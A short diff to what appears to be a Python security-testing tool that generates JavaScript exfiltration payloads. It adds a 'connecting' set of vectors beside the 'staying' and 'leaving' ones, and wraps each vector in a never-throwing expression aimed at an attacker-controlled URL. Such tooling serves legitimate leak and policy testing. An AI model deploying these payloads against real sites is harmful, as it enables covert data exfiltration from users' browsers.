@@ -74,8 +74,11 @@ VECTORS = _vectors("staying")
 LEAVING = _vectors("leaving")
 """Ways out that take the page away."""
 
+CONNECTING = _vectors("connecting")
+"""Ways to an empty connection, on which nothing is said."""
+
 
 def code(attacker, name):
     """The vector as an expression that never throws."""
-    vector = (VECTORS | LEAVING)[name]
+    vector = (VECTORS | LEAVING | CONNECTING)[name]
     return f"(() => {{ const U = '{attacker.url}/{name}'; try {{ {vector} }} catch (e) {{}} return 1; }})()"
